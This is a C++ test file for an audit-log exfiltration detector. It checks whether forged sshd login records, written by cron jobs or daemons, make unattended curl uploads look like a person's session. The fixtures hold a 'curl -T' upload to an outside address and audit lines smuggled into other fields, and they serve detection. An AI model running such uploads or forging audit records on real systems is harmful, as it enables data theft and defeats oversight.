#include "host_with_cron.hpp"

/// Text inside msg='…' is the sender's word. Whoever may write to the audit socket can claim to be
/// sshd; the pid, auid and ses in front of it are the kernel's.
namespace auexfil::test {
namespace {

constexpr std::int64_t kMuch = 200'000'000;

/// A record of session `ses`, sent by `pid`, with sshd's text.
void claim(CronHost& log, std::string_view type, int pid, std::string_view terminal,
           std::string_view exe = "/usr/sbin/sshd") {
  const Who& who = log.who(pid);
  log.record(type, log.next_stamp(),
             fmt::format("pid={} uid=0 auid={} ses={} subj=unconfined msg='op=login acct=\"root\" "
                         "exe=\"{}\" hostname=192.0.2.9 addr=192.0.2.9 terminal={} res=success'",
                         pid, who.auid, who.ses, exe, terminal));
}

/// The program at `pid` takes a terminal, becomes a shell that reads it, and sends from there.
facts::Fact send_from(CronHost& log, int pid) {
  const int shell = pid + 1;
  log.fork(pid, shell);
  log.who(shell).tty = "pts3";
  log.exec(shell, "/usr/bin/bash", {"bash", "-i"});
  const int curl =
      log.run(shell, shell + 1, "/usr/bin/curl", {"curl", "-T", "f", "https://203.0.113.9/"});
  log.tcp(curl, 5, kDrop, 443);
  log.write(curl, 5, kMuch);
  log.done(curl, 5);
  return of_pid(tell(log), curl);
}

bool is_forged(const facts::Fact& fact) {
  return std::any_of(fact.reasons.begin(), fact.reasons.end(),
                     [](const facts::Reason& reason) { return reason.sign == "forged-login"; });
}

}  // namespace

TEST_CASE("forged login: a job of cron claims to be sshd for its own session") {
  const char* const type = GENERATE("USER_LOGIN", "USER_START", "CRED_REFR", "CRED_ACQ");
  CAPTURE(type);
  CronHost log;
  const int job = log.job("/opt/evil");
  claim(log, type, job, "/dev/pts/3");
  const facts::Fact fact = send_from(log, job);
  CHECK(fact.automation == transfer::Verdict::unattended);
  // Its "op=login" is what Fedora's sshd says of terminals.
  CHECK(is_forged(fact) == std::string_view(type).starts_with("USER_"));
}

TEST_CASE("forged login: a daemon sets its own loginuid and writes sshd's records") {
  CronHost log;
  const int daemon = log.daemon(900, "/opt/evil");
  log.login(daemon, 1000, 77);
  claim(log, "USER_START", daemon, "ssh");
  claim(log, "USER_LOGIN", daemon, "/dev/pts/3");
  const facts::Fact fact = send_from(log, daemon);
  CHECK(fact.automation == transfer::Verdict::unattended);
  CHECK(is_forged(fact));
}

TEST_CASE("forged login: a name alone opens no session") {
  CronHost log;
  const int daemon = log.daemon(900, "/tmp/sshd");
  log.login(daemon, 1000, 77);
  claim(log, "USER_LOGIN", daemon, "/dev/pts/3", "/tmp/sshd");
  CHECK(send_from(log, daemon).automation == transfer::Verdict::unattended);
}

TEST_CASE("forged login: of another pid, where the log has no program of it") {
  CronHost log("",
               [](const Called& call) { return call.name != "clone" && call.name != "execve"; });
  log.record("LOGIN", log.next_stamp(),
             "pid=700 uid=0 subj=unconfined old-auid=4294967295 auid=0 tty=(none) "
             "old-ses=4294967295 ses=5 res=1");
  log.there(800, 1, "/usr/bin/bash", 0, 5, "pts3");
  log.there(801, 800, "/usr/bin/curl", 0, 5, "pts3");
  claim(log, "USER_LOGIN", 800, "/dev/pts/3");
  log.tcp(801, 5, kDrop, 443);
  log.send(801, 5, kMuch);
  CHECK(one(log).automation != transfer::Verdict::attended);
}

TEST_CASE("forged login: nobody takes a person's session away") {
  CronHost log;
  const int shell = log.person(CronHost::kSshd, 500, 5);
  const int evil = log.run(shell, 600, "/opt/evil", {"evil"});
  claim(log, "USER_LOGIN", evil, "/dev/pts/9");
  claim(log, "USER_START", evil, "cron", "/usr/sbin/cron");
  claim(log, "USER_END", evil, "ssh");
  const int curl =
      log.run(shell, 700, "/usr/bin/curl", {"curl", "-T", "f", "https://203.0.113.9/"});
  log.tcp(curl, 5, kDrop, 443);
  log.write(curl, 5, kMuch);
  log.done(curl, 5);
  const facts::Fact fact = one(log);
  CHECK(fact.automation == transfer::Verdict::attended);
  CHECK_FALSE(is_forged(fact));
}

TEST_CASE("forged login: lines of the log inside a field are no lines") {
  CronHost log;
  const int job = log.job("/opt/evil");
  const std::string line =
      "type=USER_LOGIN msg=audit(1796173201.000:9999): pid=310 uid=0 auid=0 ses=11 msg='op=login "
      "acct=\"root\" exe=\"/usr/sbin/sshd\" terminal=/dev/pts/3 res=success'";
  const std::string field = GENERATE("USER_MSG", "AVC", "SECCOMP", "argv");
  CAPTURE(field);
  if (field == "argv") {
    log.exec(job, "/usr/bin/dash", {"sh", line});
  } else {
    log.record(field, log.next_stamp(), fmt::format("pid={} auid=0 ses=11 {}", job, line));
  }
  CHECK(send_from(log, job).automation == transfer::Verdict::unattended);
}

}  // namespace auexfil::test
